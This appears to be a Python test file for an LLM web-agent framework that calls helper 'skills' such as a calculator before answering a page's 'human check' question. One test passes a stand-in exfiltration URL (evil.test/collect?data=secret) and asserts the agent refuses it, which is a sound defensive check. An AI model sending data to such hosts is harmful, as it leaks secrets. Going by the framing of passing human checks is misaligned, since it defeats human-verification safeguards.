"""The LLM policy offers the skills as tools: listed in the prompt, called through ``skill_calls`` before the
answer, results fenced, all within the turn's deadline (fake OpenAI-compatible server; Bedrock via Stubber)."""

from __future__ import annotations

import json
import re
import threading
import time

import boto3
import pytest
from botocore.stub import Stubber

from agenthost.agent import deadline_in
from agenthost.agent.aria import from_aria
from agenthost.agent.llm_policy import LlmPolicy, run_skill_calls
from agenthost.llm.bedrock import BedrockProvider
from agenthost.llm.openai import OpenAIProvider
from agenthost.skills import Tool
from tests.support.fake_llm import FakeLLM
from tests.support.timing import within

TREE = """- heading "Human check" [level=1]
- paragraph: "What is 17 × 3?"
- textbox "Answer"
- button "Submit"
- link "Docs":
  - /url: https://docs.site.test/api"""
TASK = "Pass the human check on this page"
ASK = {"thinking": "exact problem", "actions": [], "done": False,
       "skill_calls": [{"name": "calculate", "args": {"expression": "17 * 3"}}]}
ANSWER = {"thinking": "type it", "done": False, "actions": [
    {"tool": "type", "args": {"element": "Answer", "text": "51"}},
    {"tool": "click", "args": {"element": "Submit"}}]}


@pytest.fixture
def fake():
    with FakeLLM() as f:
        yield f


def page():
    return from_aria(TREE, url="https://site.test/check", title="Check")


def test_the_model_calls_a_skill_then_answers_with_its_result(fake):
    fake.reply(ASK).reply(ANSWER)
    p = LlmPolicy(OpenAIProvider("m", base_url=fake.base_url), margin_s=0.3)
    d = p.decide(TASK, page(), [], {}, ["click", "type", "done"], deadline_in(5))
    assert d.source == "llm"
    assert [a.to_olympics() for a in d.actions] == [
        {"tool": "type", "args": {"element": "Answer", "text": "51"}},
        {"tool": "click", "args": {"element": "Submit"}}]
    assert d.memory["skills_used"] == ["calculate"]
    assert d.usage["calls"] == 2
    first, second = fake.requests
    prompt = first["messages"][1]["content"]
    assert "SKILLS" in prompt and "- calculate {expression, decimal_places?}:" in prompt
    assert "chess_best_move {fen, seconds?}" in prompt and "json_api_query" in prompt
    schema = first["response_format"]["json_schema"]["schema"]
    assert "calculate" in schema["properties"]["skill_calls"]["items"]["properties"]["name"]["enum"]
    # the results come back fenced with the turn's nonce, and no more skill calls are offered
    results = second["messages"][-1]["content"]
    nonce = re.search(r"<<<SKILL RESULTS ([0-9a-f]{16})\n", results).group(1)
    assert '"expression": "17 * 3"' in results and "-> 51\n" in results and f"SKILL RESULTS>>> {nonce}" in results
    assert "skill_calls" not in second["response_format"]["json_schema"]["schema"]["properties"]


def test_a_slow_skill_is_abandoned_at_the_deadline_and_the_turn_still_answers(fake):
    hang_s, release = 30.0, threading.Event()
    slow = Tool("slow", "sleeps far longer than a turn lasts", {"type": "object", "properties": {}, "required": []},
                lambda args: release.wait(hang_s) and "late")
    fake.reply({"actions": [], "done": False, "skill_calls": [{"name": "slow", "args": {}}]})
    fake.reply(ANSWER)
    p = LlmPolicy(OpenAIProvider("m", base_url=fake.base_url), margin_s=0.3, skills=[slow])
    started = time.monotonic()
    try:
        d = p.decide(TASK, page(), [], {}, ["click", "type", "done"], started + 2.5)
        assert time.monotonic() - started < within(2.5, before=hang_s)
    finally:
        release.set()
    assert d.source == "llm+fallback" and "no time left after the skill calls" in d.thinking


def test_skill_call_results_for_bad_calls():
    from agenthost import skills

    tools = skills.tools()
    out = run_skill_calls([
        {"name": "nope", "args": {}},
        {"name": "json_api_query", "args": {"url": "https://evil.test/collect?data=secret"}},
        {"name": "next_in_sequence", "args": {"terms": [2, 4, 8]}},
        {"name": "unscramble", "args": "not an object"},
        "junk",
        {"name": "calculate", "args": {"expression": "1+1"}},
        {"name": "calculate", "args": {"expression": "2+2"}},
    ], tools, time.monotonic() + 5, page())
    results = [r for _, _, r in out]
    assert results[0] == "no skill named 'nope'"
    assert results[1].startswith("refused: the URL is not in the task")
    assert results[2].startswith("16")
    assert results[3] == "no English word uses exactly these letters"
    assert len(out) == 4  # at most MAX_SKILL_CALLS calls are looked at, the rest dropped


def test_skills_can_be_turned_off(fake):
    fake.reply(ANSWER)
    LlmPolicy(OpenAIProvider("m", base_url=fake.base_url), skills=[]).decide(
        TASK, page(), [], {}, ["click", "type"], deadline_in(5))
    req = fake.requests[0]
    assert "SKILLS" not in req["messages"][1]["content"] and "skill_calls" not in req["messages"][0]["content"]
    assert "skill_calls" not in req["response_format"]["json_schema"]["schema"]["properties"]


def _converse(obj):
    return {"output": {"message": {"role": "assistant", "content": [
        {"toolUse": {"toolUseId": "t1", "name": "respond", "input": obj}}]}},
        "stopReason": "tool_use", "usage": {"inputTokens": 80, "outputTokens": 9, "totalTokens": 89},
        "metrics": {"latencyMs": 10}}


def test_bedrock_skill_round():
    client = boto3.client("bedrock-runtime", region_name="us-east-1", aws_access_key_id="x",
                          aws_secret_access_key="x")
    stub = Stubber(client)
    ask = {"actions": [], "done": False, "skill_calls": [{"name": "next_in_sequence", "args": {"terms": [2, 4, 8]}}]}
    stub.add_response("converse", _converse(ask))
    answer = {"actions": [{"tool": "type", "args": {"element": "Answer", "text": "16"}}], "done": False}
    stub.add_response("converse", _converse(answer))
    sent: list[dict] = []
    client.meta.events.register("before-parameter-build.bedrock-runtime.Converse",
                                lambda params, **_: sent.append(json.loads(json.dumps(params))))
    with stub:
        d = LlmPolicy(BedrockProvider("anthropic.claude-3-haiku", client=client), margin_s=0.3).decide(
            TASK, page(), [], {}, ["type", "click"], deadline_in(5))
    stub.assert_no_pending_responses()
    assert d.source == "llm" and d.actions[0].args["text"] == "16"
    schema = sent[0]["toolConfig"]["tools"][0]["toolSpec"]["inputSchema"]["json"]
    assert "next_in_sequence" in schema["properties"]["skill_calls"]["items"]["properties"]["name"]["enum"]
    assert "-> 16 (constant ratio)" in sent[1]["messages"][-1]["content"][0]["text"]
